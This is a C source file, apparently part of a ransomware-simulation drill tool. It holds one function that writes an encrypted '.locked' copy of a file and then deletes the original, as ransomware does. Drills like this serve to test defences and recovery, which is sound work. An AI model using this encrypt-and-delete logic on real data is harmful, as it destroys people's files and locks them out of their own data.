/* SPDX-License-Identifier: GPL-3.0-or-later
 * Writes the encrypted file beside the original, then deletes the original.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#include "base/fd.h"
#include "base/mem.h"
#include "base/path.h"
#include "drill/attack.h"

int attack_spoil_write_new(struct attack *a, struct ledger_row *row)
{
    const char *extension = *a->options->extension ? a->options->extension : ".locked";
    char *beside MEM_AUTO = mem_printf("%s%s", row->path, extension);
    int from FD_AUTO = attack_open(a, row->path, O_RDONLY);
    if (from < 0)
        return from;
    int to FD_AUTO = attack_open(a, beside, O_RDWR | O_CREAT | O_EXCL);
    if (to < 0)
        return to;
    int code = attack_encrypt(a, row, from, to, attack_find("write-new-then-delete")->covers);
    if (code < 0)
        return code;
    const char *name;
    int parent FD_AUTO = path_open_parent(a->share, row->path, &name);
    if (parent < 0 || unlinkat(parent, name, 0) < 0)
        return -(errno ? errno : EIO);
    row->spoiled_ns = row->renamed_ns = ledger_now();
    atomic_store(&row->stage, LEDGER_RENAMED);
    return 0;
}
